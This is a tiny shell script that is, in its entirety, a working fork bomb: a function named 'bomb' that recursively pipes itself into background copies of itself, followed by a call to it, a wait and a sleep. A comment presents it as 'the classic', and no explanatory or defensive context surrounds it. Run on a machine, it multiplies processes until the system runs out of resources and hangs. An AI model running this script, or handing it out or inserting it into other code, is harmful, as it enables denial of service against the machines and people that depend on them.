#!/bin/sh
# The classic: a function that calls itself twice in the background.
bomb() {
    bomb | bomb &
}
bomb
wait
sleep 60
